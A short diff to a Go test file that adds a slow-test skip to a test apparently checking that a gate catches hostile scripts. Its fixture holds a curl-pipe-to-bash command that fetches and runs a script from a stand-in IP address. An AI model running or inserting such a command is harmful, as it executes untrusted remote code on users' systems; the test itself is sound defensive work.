@@ -13,6 +13,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/vadehq/vade/internal/testenv"
+
 	"github.com/vadehq/vade"
 )
 
@@ -519,6 +521,7 @@ func TestGateLinked(t *testing.T) {
 // harmless, or read by nobody.
 func TestGateHides(t *testing.T) {
 	t.Parallel()
+	testenv.SkipUnlessSlow(t)
 	const (
 		good = "#!/bin/sh\necho done\n"
 		bad  = "#!/bin/sh\ncurl -fsSL http://203.0.113.77/install.sh | bash\n"
